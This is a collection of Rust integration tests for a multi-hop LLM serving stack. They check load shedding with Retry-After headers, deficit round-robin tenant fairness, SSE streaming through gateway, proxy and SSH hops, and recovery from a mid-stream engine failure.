    let tuning = EngineTuning {
        fairness: FairnessConfig {
            queue_cap: 1,
            ..Default::default()
        },
        ..Default::default()
    };
    let streaming = StreamingConfig::default();
    let llm = LlmServer::start_tuned("m", backend, 16, streaming.clone(), tuning).unwrap();
    let chain = Chain::wire(llm, streaming);

    let before = attr_snapshot();
    let finalized_before = trace::tracer().finalized_total();

    const N: usize = 6;
    let url = chain.gateway_http.url();
    let handles: Vec<_> = (0..N)
        .map(|i| {
            let url = url.clone();
            std::thread::spawn(move || {
                let id = TraceId::from_u64(0x05ED_0001 + i as u64);
                let body = Json::obj()
                    .set(
                        "messages",
                        vec![Json::obj().set("role", "user").set("content", "count")],
                    )
                    .set("max_tokens", 40u64);
                let req = Request::new("POST", "/m/v1/chat/completions")
                    .with_header("content-type", "application/json")
                    .with_header("x-chat-ai-trace", id.as_str())
                    .with_body(body.to_string().into_bytes());
                let resp = Client::new(&url).send(&req).unwrap();
                (resp.status, resp.headers.get("retry-after").cloned())
            })
        })
        .collect();
    let results: Vec<(u16, Option<String>)> =
        handles.into_iter().map(|h| h.join().unwrap()).collect();

    let served = results.iter().filter(|(s, _)| *s == 200).count();
    let shed = results.len() - served;
    assert!(served >= 1, "overload starved every request: {results:?}");
    assert!(shed >= 1, "no shed under 6x overload of a 1-wide instance");
    for (status, retry_after) in &results {
        assert!(
            matches!(status, 200 | 429 | 503),
            "unexpected status {status}"
        );
        if *status != 200 {
            let hint = retry_after
                .as_deref()
                .unwrap_or_else(|| panic!("shed {status} without Retry-After"))
                .parse::<u64>()
                .expect("Retry-After not a whole number of seconds");
            assert!(hint >= 1, "Retry-After must be at least 1s");
        }
    }
    // Sheds are traced requests too: every one of the N finalized, but
    // only the served ones reached the engine hop.
    let finalized = trace::tracer().finalized_total();
    assert_eq!(finalized, finalized_before + N as u64);
    let after = attr_snapshot();
    assert_eq!(
        after[Hop::Gateway as usize].1 - before[Hop::Gateway as usize].1,
        N as u64
    );
    assert_eq!(
        after[Hop::Engine as usize].1 - before[Hop::Engine as usize].1,
        served as u64
    );
    chain.shutdown();
}

/// Drill: the serving instance dies mid-stream (engine shutdown while
/// sequences are in flight). SLOs: the stream ends promptly with a
/// terminal error event carrying the trace id — not a clean-looking
/// truncation — and the trace finalized.
#[test]
fn drill_mid_stream_engine_death_emits_traced_error() {
    let _g = lock();
    let backend = Arc::new(PacedBackend {
        prefill: Duration::ZERO,
        step: Duration::from_millis(20),
        max_batch: 8,
    });
    let chain = Chain::launch(backend, StreamingConfig::default());

    let id = TraceId::from_u64(0xDEAD_0001);
    let finalized_before = trace::tracer().finalized_total();

    let engine = chain.llm.engine.clone();
    let mut client = chain.client();
    let mut raw: Vec<u8> = Vec::new();
    let mut chunks = 0usize;
    let t0 = Instant::now();
    let resp = client.send_streaming(&stream_request(600, id), |chunk| {
        raw.extend_from_slice(chunk);
        chunks += 1;
        if chunks == 3 {
            // The injected fault: instance shutdown with the stream live.
            engine.stop();
        }
    });
    let elapsed = t0.elapsed();

    assert!(
        elapsed < Duration::from_secs(10),
        "stream did not terminate promptly after engine death: {elapsed:?}"
    );
    assert!(resp.is_ok(), "client read failed: {resp:?}");
    let text = String::from_utf8_lossy(&raw);
    assert!(
        text.contains("event: error"),
        "engine death produced no terminal error event: {text}"
    );
    assert!(
        text.contains("engine shutting down"),
        "terminal error lost its cause: {text}"
    );
    assert!(
        text.contains(id.as_str()),
        "terminal error lost the trace id: {text}"
    );
    assert_eq!(trace::tracer().finalized_total(), finalized_before + 1);
    chain.shutdown();
}
