//! Multi-tenant fairness & overload-control tests.
//!
//! Three layers:
//! * property tests over the pure scheduling/admission primitives —
//!   deficit round-robin never starves a backlogged tenant, shed
//!   decisions are monotone in queue depth;
//! * engine-level overload behaviour — wait-budget sheds hit the
//!   sheddable class and leak no KV;
//! * the full Figure-1 chain (gateway → HPC proxy → SSH/ForceCommand →
//!   cloud interface → LLM server) — a shed request surfaces at the
//!   gateway as 429/503 **with `Retry-After`** and never allocates KV.

use std::collections::HashMap;
use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::cloud_interface::CloudInterface;
use chat_ai::gateway::{Gateway, Route};
use chat_ai::hpc_proxy::{HpcProxy, HpcProxyConfig};
use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{tokenizer, Backend, EngineTuning, LlmServer};
use chat_ai::scheduler::{DemandTracker, InstanceEntry, RoutingTable};
use chat_ai::ssh::{AuthorizedKey, SshServer, SshServerConfig};
use chat_ai::util::clock::{Clock, RealClock};
use chat_ai::util::fairness::{AdmissionController, FairScheduler, FairnessConfig, Priority};
use chat_ai::util::http::{Client, Request, Server};
use chat_ai::util::json::Json;
use chat_ai::util::propcheck;
use chat_ai::util::streaming::StreamingConfig;

// ---------------------------------------------------------------------------
// Property: DRR never starves a backlogged tenant.
// ---------------------------------------------------------------------------

#[test]
fn property_drr_never_starves_a_backlogged_tenant() {
    propcheck::quick("drr starvation-freedom", |rng| {
        let quantum = rng.range(16, 512);
        let config = FairnessConfig {
            enabled: true,
            quantum,
            ..FairnessConfig::default()
        };
        let mut sched: FairScheduler<usize> = FairScheduler::new(&config);
        let n_tenants = rng.range(2, 6) as usize;
        let max_cost = rng.range(8, 2048);
        let mut queued: HashMap<String, u64> = HashMap::new();
        let mut total = 0usize;
        for t in 0..n_tenants {
            let tenant = format!("t{t}");
            let weight = rng.range(1, 5);
            let items = rng.range(1, 12);
            for i in 0..items {
                sched.push(&tenant, weight, rng.range(1, max_cost), total + i as usize);
            }
            // Some tenants start with heavy debt (past overconsumption).
            if rng.chance(0.4) {
                sched.charge(&tenant, rng.range(0, quantum * 16));
            }
            queued.insert(tenant, items);
            total += items as usize;
        }

        // Starvation-freedom bound: while a tenant stays backlogged, it
        // must be served at least once within `gap_bound` consecutive
        // releases (each full ring pass grants every backlogged tenant at
        // least one quantum; debt is capped at 4 grants).
        let gap_bound = n_tenants * ((max_cost / quantum) as usize + 7);
        let mut since_served: HashMap<String, usize> = HashMap::new();
        for _ in 0..total {
            let (tenant, _) = sched.pop().expect("len > 0 must pop");
            for (t, remaining) in queued.iter() {
                if *remaining > 0 && *t != tenant {
                    let gap = since_served.entry(t.clone()).or_insert(0);
                    *gap += 1;
                    assert!(
                        *gap <= gap_bound,
                        "tenant {t} starved for {gap} releases (bound {gap_bound})"
                    );
                }
            }
            since_served.insert(tenant.clone(), 0);
            *queued.get_mut(&tenant).unwrap() -= 1;
        }
        assert!(sched.is_empty(), "every queued item drains");
    });
}

// ---------------------------------------------------------------------------
// Property: shed decisions are monotone in queue depth.
// ---------------------------------------------------------------------------

#[test]
fn property_shed_is_monotone_in_queue_depth() {
    propcheck::quick("shed monotonicity", |rng| {
        let config = FairnessConfig {
            enabled: true,
            queue_cap: rng.range(1, 64) as usize,
            interactive_wait: Duration::from_millis(rng.range(10, 5_000)),
            batch_wait: Duration::from_millis(rng.range(10, 5_000)),
            ..FairnessConfig::default()
        };
        let ac = AdmissionController::new(config);
        let tps = rng.range(1, 2_000) as f64;
        let tokens_per_req = rng.range(1, 512);
        for &priority in &[Priority::Interactive, Priority::Batch] {
            let mut shed_seen = false;
            for depth in 0..200usize {
                let decision = ac.admit(priority, depth, depth as u64 * tokens_per_req, tps);
                if shed_seen {
                    assert!(
                        decision.is_err(),
                        "admission flipped back at depth {depth} ({priority:?})"
                    );
                }
                shed_seen = decision.is_err();
            }
        }
    });
}

// ---------------------------------------------------------------------------
// Engine-level overload behaviour.
// ---------------------------------------------------------------------------

/// A paced model that never EOSes (generation ends at max_tokens).
struct SlowBackend {
    step: Duration,
}

impl SlowBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for SlowBackend {
    fn max_batch(&self) -> usize {
        2
    }
    fn max_seq(&self) -> usize {
        4096
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        std::thread::sleep(self.step);
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

fn chat_body(max_tokens: u64, stream: bool) -> Json {
    Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "go")],
        )
        .set("max_tokens", max_tokens)
        .set("stream", stream)
}

fn request_as(tenant: &str, priority: &str, body: &Json) -> Request {
    Request::new("POST", "/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_header("x-consumer", tenant)
        .with_header("x-chat-ai-priority", priority)
        .with_body(body.to_string().into_bytes())
}

fn wait_until(deadline: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let end = Instant::now() + deadline;
    while Instant::now() < end {
        if cond() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    cond()
}

#[test]
fn overloaded_server_sheds_batch_with_retry_after_and_serves_interactive() {
    let fairness = FairnessConfig {
        enabled: true,
        queue_cap: 64,
        interactive_wait: Duration::from_secs(60),
        batch_wait: Duration::from_millis(1),
        ..FairnessConfig::default()
    };
    let server = LlmServer::start_tuned(
        "m",
        Arc::new(SlowBackend {
            step: Duration::from_millis(5),
        }),
        16,
        StreamingConfig::default(),
        EngineTuning {
            fairness,
            ..EngineTuning::default()
        },
    )
    .unwrap();
    let url = server.url();

    // Saturate both batch slots + queue with interactive work so a decode
    // throughput estimate exists and the queue is non-empty.
    let mut fillers = Vec::new();
    for _ in 0..4 {
        let url = url.clone();
        fillers.push(std::thread::spawn(move || {
            let mut c = Client::new(&url);
            let _ = c.send(&request_as("chat-ui", "interactive", &chat_body(160, false)));
        }));
    }
    // Give the engine time to start decoding (tps estimate warms up).
    std::thread::sleep(Duration::from_millis(300));

    // A batch request must now shed: its wait budget is 1ms.
    let mut client = Client::new(&url);
    let resp = client
        .send(&request_as("pipeline", "batch", &chat_body(32, false)))
        .unwrap();
    assert_eq!(resp.status, 429, "batch sheds under load: {}", resp.body_str());
    let ra: u64 = resp
        .headers
        .get("retry-after")
        .expect("Retry-After header on shed")
        .parse()
        .expect("integer Retry-After");
    assert!(ra >= 1);
    assert!(
        server.engine.stats.shed_wait_budget.load(Ordering::Relaxed) >= 1,
        "engine counted the shed"
    );

    for f in fillers {
        let _ = f.join();
    }
    // Interactive work was never shed and all streams completed; once the
    // engine settles, the shed left no KV behind.
    assert!(
        wait_until(Duration::from_secs(3), || server
            .engine
            .stats
            .completed
            .load(Ordering::Relaxed)
            == 4),
        "interactive fillers must complete"
    );
    assert!(
        wait_until(Duration::from_secs(3), || server
            .engine
            .stats
            .kv_blocks_used
            .load(Ordering::Relaxed)
            == 0),
        "shed request must hold no KV"
    );
    server.stop();
}

#[test]
fn fair_share_interleaves_tenants_under_contention() {
    // One tenant floods the queue, a second shows up later: with DRR the
    // late tenant's short request is served long before the flood drains.
    let server = LlmServer::start_tuned(
        "m",
        Arc::new(SlowBackend {
            step: Duration::from_millis(3),
        }),
        16,
        StreamingConfig::default(),
        EngineTuning::default(),
    )
    .unwrap();
    let url = server.url();

    let mut flood = Vec::new();
    for _ in 0..6 {
        let url = url.clone();
        flood.push(std::thread::spawn(move || {
            let mut c = Client::new(&url);
            let _ = c.send(&request_as("flood", "interactive", &chat_body(96, false)));
        }));
    }
    std::thread::sleep(Duration::from_millis(100));
    let t0 = Instant::now();
    let mut c = Client::new(&url);
    let resp = c
        .send(&request_as("late", "interactive", &chat_body(4, false)))
        .unwrap();
    let late_latency = t0.elapsed();
    assert_eq!(resp.status, 200);
    for f in flood {
        let _ = f.join();
    }
    // FIFO would park the late tenant behind ~4 queued 96-token flood
    // requests (≈0.9s+); DRR releases it into the next free slot (≈0.3s).
    assert!(
        late_latency < Duration::from_millis(800),
        "late tenant waited out the flood: {late_latency:?}"
    );
    // Per-tenant accounting is exposed.
    let metrics = c.get("/metrics").unwrap().body_str().to_string();
    assert!(
        metrics.contains("llm_tenant_tokens_total{model=\"m\",tenant=\"flood\"}"),
        "{metrics}"
    );
    assert!(
        metrics.contains("llm_tenant_tokens_total{model=\"m\",tenant=\"late\"}"),
        "{metrics}"
    );
    server.stop();
}

// ---------------------------------------------------------------------------
// Full-chain: shed surfaces at the gateway with Retry-After, no KV touched.
// ---------------------------------------------------------------------------

const KEY: &str = "SHA256:fairness-test-key";

struct Chain {
    llm: LlmServer,
    _sshd: SshServer,
    proxy: Arc<HpcProxy>,
    _proxy_http: Server,
    gateway: Arc<Gateway>,
    gateway_http: Server,
    demand: Arc<DemandTracker>,
    clock: Arc<dyn Clock>,
}

impl Chain {
    fn launch(tuning: EngineTuning) -> Chain {
        let streaming = StreamingConfig::default();
        let llm = LlmServer::start_tuned(
            "m",
            Arc::new(SlowBackend {
                step: Duration::from_millis(2),
            }),
            16,
            streaming.clone(),
            tuning,
        )
        .unwrap();

        let routing = Arc::new(RoutingTable::new());
        routing.insert(InstanceEntry {
            service: "m".into(),
            job: 1,
            node: "gpu01".into(),
            port: 40001,
            addr: None,
            ready: false,
        });
        routing.mark_ready(1, llm.addr());
        let demand = Arc::new(DemandTracker::new(60_000));
        let clock: Arc<dyn Clock> = Arc::new(RealClock::new());
        let ci =
            CloudInterface::new(routing, demand.clone(), clock.clone(), Arc::new(|| {}), 7);

        let sshd = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: Some("saia".into()),
                }],
                ..Default::default()
            },
        )
        .unwrap();
        let exec_ci = ci.clone();
        sshd.register_executable("saia", move |ctx| exec_ci.run(ctx));

        let proxy = HpcProxy::new(HpcProxyConfig {
            ssh_addr: sshd.addr(),
            key_fingerprint: KEY.into(),
            keepalive_interval: Duration::from_millis(200),
            reconnect_backoff: Duration::from_millis(50),
            reconnect_backoff_max: Duration::from_millis(400),
            streaming: streaming.clone(),
        });
        let proxy_http = proxy.serve("127.0.0.1:0", 16).unwrap();

        let gateway = Gateway::with_streaming(
            vec![Route::new("m", "/m").with_upstream(&proxy_http.addr().to_string())],
            streaming,
        );
        gateway.add_api_key("key-ui", "chat-ui");
        gateway.add_api_key("key-batch", "eval-pipeline");
        gateway.set_consumer_priority("eval-pipeline", Priority::Batch);
        let gateway_http = gateway.serve("127.0.0.1:0", 16).unwrap();

        Chain {
            llm,
            _sshd: sshd,
            proxy,
            _proxy_http: proxy_http,
            gateway,
            gateway_http,
            demand,
            clock,
        }
    }

    fn client(&self) -> Client {
        Client::new(&self.gateway_http.url())
    }

    fn shutdown(self) {
        self.proxy.shutdown();
        self.llm.stop();
    }
}

fn gw_request(key: &str, body: &Json) -> Request {
    Request::new("POST", "/m/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_header("x-api-key", key)
        .with_body(body.to_string().into_bytes())
}

#[test]
fn e2e_shed_returns_retry_after_at_gateway_and_allocates_no_kv() {
    // queue_cap 0: every request sheds at admission — deterministic
    // overload, and the strongest form of "a shed frees no KV blocks"
    // (none are ever allocated).
    let chain = Chain::launch(EngineTuning {
        fairness: FairnessConfig {
            enabled: true,
            queue_cap: 0,
            ..FairnessConfig::default()
        },
        ..EngineTuning::default()
    });
    let mut client = chain.client();
    let resp = client
        .send(&gw_request("key-ui", &chat_body(16, false)))
        .unwrap();
    assert_eq!(resp.status, 503, "queue-cap shed: {}", resp.body_str());
    let ra = resp
        .headers
        .get("retry-after")
        .expect("Retry-After must survive gateway → proxy → SSH → instance");
    assert!(ra.parse::<u64>().unwrap() >= 1, "retry-after: {ra}");

    let stats = &chain.llm.engine.stats;
    assert!(stats.shed_queue_full.load(Ordering::Relaxed) >= 1);
    assert_eq!(
        stats.prefill_tokens.load(Ordering::Relaxed),
        0,
        "shed request must never reach prefill"
    );
    assert_eq!(
        stats.kv_blocks_used.load(Ordering::Relaxed),
        0,
        "shed request must hold no KV blocks"
    );
    // The gateway counted the shed pass-through.
    assert_eq!(
        chain
            .gateway
            .route("m")
            .unwrap()
            .shed
            .load(Ordering::Relaxed),
        1
    );
    chain.shutdown();
}

#[test]
fn e2e_priority_class_reaches_demand_tracker() {
    let chain = Chain::launch(EngineTuning::default());
    let mut client = chain.client();

    // Interactive (default ceiling) and batch (pinned consumer) requests.
    let resp = client
        .send(&gw_request("key-ui", &chat_body(4, false)))
        .unwrap();
    assert_eq!(resp.status, 200, "{}", resp.body_str());
    let resp = client
        .send(&gw_request("key-batch", &chat_body(4, false)))
        .unwrap();
    assert_eq!(resp.status, 200, "{}", resp.body_str());

    // The cloud interface bracketed demand per class: both class streams
    // saw activity inside the window.
    assert_eq!(chain.demand.total("m"), 2);
    assert_eq!(chain.demand.in_flight("m"), 0, "brackets closed");
    let now = chain.clock.now_ms();
    assert!(
        chain
            .demand
            .avg_concurrency_class("m", Priority::Interactive, now)
            > 0.0,
        "guaranteed stream saw the interactive request"
    );
    assert!(
        chain.demand.avg_concurrency_class("m", Priority::Batch, now) > 0.0,
        "sheddable stream saw the batch request"
    );
    // Per-tenant engine accounting saw both consumers.
    let tenants = chain.llm.engine.stats.tenant_tokens_snapshot();
    let names: Vec<&str> = tenants.iter().map(|(n, _)| n.as_str()).collect();
    assert!(names.contains(&"chat-ui"), "{names:?}");
    assert!(names.contains(&"eval-pipeline"), "{names:?}");
    chain.shutdown();
}
