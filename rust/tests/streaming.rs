//! End-to-end streaming tests: SSE through the real multi-hop chain
//! (gateway → HPC proxy → SSH/ForceCommand → cloud interface → LLM
//! server → engine), asserting the four properties the streaming
//! subsystem exists for:
//!
//! 1. incremental token delivery across every hop,
//! 2. heartbeat comments covering idle prefill phases,
//! 3. a mid-stream client disconnect freeing the engine's batch slot and
//!    KV blocks (EngineStats: cancelled / tokens_saved),
//! 4. per-stream backpressure — a slow consumer never stalls a
//!    concurrent stream's decode cadence.

use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::cloud_interface::CloudInterface;
use chat_ai::gateway::{Gateway, Route};
use chat_ai::hpc_proxy::{HpcProxy, HpcProxyConfig};
use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{tokenizer, Backend, LlmServer, PerfProfile, SimBackend};
use chat_ai::scheduler::{DemandTracker, InstanceEntry, RoutingTable};
use chat_ai::ssh::{AuthorizedKey, SshServer, SshServerConfig};
use chat_ai::util::clock::{Clock, RealClock};
use chat_ai::util::http::{Client, Request, Server, SseParser, StreamOutcome};
use chat_ai::util::json::Json;
use chat_ai::util::streaming::StreamingConfig;

const KEY: &str = "SHA256:streaming-test-key";

/// A test model with controllable prefill/step latency that never EOSes:
/// generation ends only via max_tokens or cancellation.
struct PacedBackend {
    prefill: Duration,
    step: Duration,
}

impl PacedBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for PacedBackend {
    fn max_batch(&self) -> usize {
        8
    }
    fn max_seq(&self) -> usize {
        4096
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        if !self.prefill.is_zero() {
            std::thread::sleep(self.prefill);
        }
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        if !self.step.is_zero() {
            std::thread::sleep(self.step);
        }
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

/// The full Figure-1 streaming chain with real sockets at every hop.
struct Chain {
    llm: LlmServer,
    _sshd: SshServer,
    proxy: Arc<HpcProxy>,
    _proxy_http: Server,
    gateway: Arc<Gateway>,
    gateway_http: Server,
}

impl Chain {
    fn launch(backend: Arc<dyn Backend>, streaming: StreamingConfig) -> Chain {
        let llm = LlmServer::start_with("m", backend, 16, streaming.clone()).unwrap();

        let routing = Arc::new(RoutingTable::new());
        routing.insert(InstanceEntry {
            service: "m".into(),
            job: 1,
            node: "gpu01".into(),
            port: 40001,
            addr: None,
            ready: false,
        });
        routing.mark_ready(1, llm.addr());
        let demand = Arc::new(DemandTracker::new(60_000));
        let clock: Arc<dyn Clock> = Arc::new(RealClock::new());
        let ci = CloudInterface::new(routing, demand, clock, Arc::new(|| {}), 7);

        let sshd = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: Some("saia".into()),
                }],
                ..Default::default()
            },
        )
        .unwrap();
        let exec_ci = ci.clone();
        sshd.register_executable("saia", move |ctx| exec_ci.run(ctx));

        let proxy = HpcProxy::new(HpcProxyConfig {
            ssh_addr: sshd.addr(),
            key_fingerprint: KEY.into(),
            keepalive_interval: Duration::from_millis(200),
            reconnect_backoff: Duration::from_millis(50),
            reconnect_backoff_max: Duration::from_millis(400),
            streaming: streaming.clone(),
        });
        let proxy_http = proxy.serve("127.0.0.1:0", 16).unwrap();

        let gateway = Gateway::with_streaming(
            vec![Route::new("m", "/m")
                .public()
                .with_upstream(&proxy_http.addr().to_string())],
            streaming,
        );
        let gateway_http = gateway.serve("127.0.0.1:0", 16).unwrap();

        Chain {
            llm,
            _sshd: sshd,
            proxy,
            _proxy_http: proxy_http,
            gateway,
            gateway_http,
        }
    }

    fn client(&self) -> Client {
        Client::new(&self.gateway_http.url())
    }

    fn shutdown(self) {
        self.proxy.shutdown();
        self.llm.stop();
    }
}

fn stream_request(max_tokens: u64) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "count")],
        )
        .set("max_tokens", max_tokens)
        .set("stream", true);
    Request::new("POST", "/m/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_body(body.to_string().into_bytes())
}

fn wait_until(deadline: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let end = Instant::now() + deadline;
    while Instant::now() < end {
        if cond() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    cond()
}

#[test]
fn tokens_stream_incrementally_through_every_hop() {
    let mut backend = SimBackend::new(PerfProfile::by_name("intel-neural-7b").unwrap());
    backend.time_scale = 0.1; // real pacing (≈4 ms/step), scaled for CI
    let chain = Chain::launch(Arc::new(backend), StreamingConfig::default());

    let mut client = chain.client();
    let mut sse = SseParser::new();
    let mut events = Vec::new();
    let mut chunk_arrivals = 0usize;
    let resp = client
        .send_streaming(&stream_request(64), |chunk| {
            chunk_arrivals += 1;
            events.extend(sse.push(chunk));
        })
        .unwrap();
    assert_eq!(resp.status, 200);
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));
    assert!(
        chunk_arrivals >= 5,
        "expected incremental chunks across the chain, got {chunk_arrivals}"
    );
    // Reassemble the text from the deltas.
    let mut text = String::new();
    for e in &events[..events.len() - 1] {
        if let Ok(v) = chat_ai::util::json::parse(e) {
            if let Some(choices) = v.get("choices").and_then(Json::as_arr) {
                if let Some(delta) = choices[0].get("delta") {
                    text.push_str(delta.str_field("content").unwrap_or(""));
                }
            }
        }
    }
    assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
    // Lifecycle metrics recorded at both ends of the chain.
    assert!(wait_until(Duration::from_secs(5), || {
        chain.gateway.stream_stats.streams_completed.load(Ordering::Relaxed) == 1
            && chain.llm.stream_stats.streams_completed.load(Ordering::Relaxed) == 1
    }));
    assert_eq!(chain.llm.engine.stats.cancelled.load(Ordering::Relaxed), 0);
    chain.shutdown();
}

#[test]
fn heartbeats_cover_slow_prefill() {
    let backend = Arc::new(PacedBackend {
        prefill: Duration::from_millis(600),
        step: Duration::from_millis(5),
    });
    let streaming = StreamingConfig {
        heartbeat: Duration::from_millis(50),
        ..Default::default()
    };
    let chain = Chain::launch(backend, streaming);

    let mut client = chain.client();
    let mut sse = SseParser::new();
    let mut events = Vec::new();
    let mut comments_before_first_event = 0u64;
    client
        .send_streaming(&stream_request(8), |chunk| {
            let new = sse.push(chunk);
            if events.is_empty() && !new.is_empty() {
                comments_before_first_event = sse.comments;
            }
            events.extend(new);
        })
        .unwrap();
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));
    // The 600 ms prefill is idle time at every hop; without heartbeats the
    // proxied connections would sit silent. At 50 ms intervals several
    // comments must have crossed the whole chain before the first token.
    assert!(
        comments_before_first_event >= 3,
        "expected heartbeats during prefill, saw {comments_before_first_event}"
    );
    assert!(
        chain
            .llm
            .stream_stats
            .heartbeats_sent
            .load(Ordering::Relaxed)
            >= 3
    );
    chain.shutdown();
}

#[test]
fn mid_stream_disconnect_frees_the_batch_slot() {
    let backend = Arc::new(PacedBackend {
        prefill: Duration::ZERO,
        step: Duration::from_millis(20),
    });
    let chain = Chain::launch(backend, StreamingConfig::default());

    // Abandon a long stream after a few chunks: without cancellation the
    // engine would decode all 300 tokens (~6 s) into the void.
    let mut client = chain.client();
    let mut seen = 0usize;
    let outcome = client
        .send_streaming_until(
            &stream_request(300),
            |status, _| assert_eq!(status, 200),
            |_chunk| {
                seen += 1;
                seen < 3
            },
        )
        .unwrap();
    assert_eq!(outcome, StreamOutcome::Aborted);

    // The disconnect crosses gateway → proxy → SSH Cancel frame → cloud
    // interface → LLM server → engine: the sequence leaves the running
    // batch and its KV blocks are released.
    let stats = &chain.llm.engine.stats;
    assert!(
        wait_until(Duration::from_secs(10), || stats
            .cancelled
            .load(Ordering::Relaxed)
            == 1),
        "engine never evicted the abandoned sequence"
    );
    assert!(
        wait_until(Duration::from_secs(2), || stats.running.load(Ordering::Relaxed) == 0),
        "batch slot not freed"
    );
    let saved = stats.tokens_saved.load(Ordering::Relaxed);
    assert!(saved > 200, "expected most of max_tokens saved, got {saved}");

    // Freed capacity is immediately reusable end-to-end.
    let mut sse = SseParser::new();
    let mut events = Vec::new();
    let resp = client
        .send_streaming(&stream_request(5), |chunk| events.extend(sse.push(chunk)))
        .unwrap();
    assert_eq!(resp.status, 200);
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));
    assert!(wait_until(Duration::from_secs(5), || {
        chain.gateway.stream_stats.streams_cancelled.load(Ordering::Relaxed) >= 1
    }));
    chain.shutdown();
}

#[test]
fn slow_consumer_does_not_stall_a_concurrent_stream() {
    let backend = Arc::new(PacedBackend {
        prefill: Duration::ZERO,
        step: Duration::from_millis(20),
    });
    let streaming = StreamingConfig {
        chunk_buffer: 4,
        // Keep the stall policy out of the picture: this test is about
        // isolation, not severing.
        stall_buffer: 10_000,
        stall_timeout: Duration::from_secs(60),
        ..Default::default()
    };
    let chain = Chain::launch(backend, streaming);

    // Stream A: a consumer that drains one chunk every 150 ms — far
    // slower than the ~20 ms decode cadence, so backpressure builds at
    // every hop of its own pipeline.
    let slow_url = chain.gateway_http.url();
    let slow_done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let slow_stop = slow_done.clone();
    let slow = std::thread::spawn(move || {
        let mut client = Client::new(&slow_url);
        let mut consumed = 0usize;
        let _ = client.send_streaming_until(
            &stream_request(500),
            |_s, _h| {},
            |_chunk| {
                consumed += 1;
                std::thread::sleep(Duration::from_millis(150));
                !slow_stop.load(Ordering::Relaxed)
            },
        );
        consumed
    });

    // Give A time to start and clog its own buffers.
    assert!(wait_until(Duration::from_secs(5), || {
        chain.llm.engine.stats.running.load(Ordering::Relaxed) >= 1
    }));

    // Stream B: must complete at decode cadence, unaffected by A. The old
    // engine blocked the shared decode loop on A's full channel — B would
    // have crawled at A's 150 ms-per-token pace (≥ 4.5 s for 30 tokens).
    let t0 = Instant::now();
    let mut client = chain.client();
    let mut sse = SseParser::new();
    let mut events = Vec::new();
    let resp = client
        .send_streaming(&stream_request(30), |chunk| events.extend(sse.push(chunk)))
        .unwrap();
    let elapsed = t0.elapsed();
    assert_eq!(resp.status, 200);
    assert_eq!(events.last().map(String::as_str), Some("[DONE]"));
    assert!(
        elapsed < Duration::from_secs(4),
        "healthy stream stalled behind the slow consumer: {elapsed:?}"
    );

    // A is still alive and crawling (not severed, not finished).
    assert_eq!(chain.llm.engine.stats.stall_disconnects.load(Ordering::Relaxed), 0);
    slow_done.store(true, Ordering::Relaxed);
    let consumed = slow.join().unwrap();
    assert!(consumed > 0, "slow stream delivered nothing");
    chain.shutdown();
}
