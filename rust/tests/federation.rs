//! Multi-cluster federation integration tests: N full cluster runtimes
//! (real sockets, real SSH channels) behind one gateway + federation
//! router, exercising placement, spillover and whole-cluster outage.

use std::time::Duration;

use chat_ai::config::{ClusterSpec, ServiceSpec, StackConfig};
use chat_ai::coordinator::FederatedStack;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;

fn profile_service(name: &str) -> ServiceSpec {
    ServiceSpec {
        name: name.to_string(),
        // Analytic profile backend: no artifact compile, fast bring-up.
        model: "intel-neural-7b".to_string(),
        gpus: 1,
        min_instances: 1,
        max_instances: 2,
        target_concurrency: 16.0,
    }
}

fn federated_config(clusters: Vec<ClusterSpec>, services: Vec<ServiceSpec>) -> StackConfig {
    StackConfig {
        services,
        clusters,
        keepalive: Duration::from_millis(100),
        ..Default::default()
    }
}

fn chat_request(service: &str) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "count")],
        )
        .set("max_tokens", 4u64);
    Request::new("POST", &format!("/{service}/v1/chat/completions"))
        .with_header("x-api-key", "fed-test")
        .with_body(body.to_string().into_bytes())
}

#[test]
fn two_cluster_stack_serves_and_reports_status() {
    let config = federated_config(
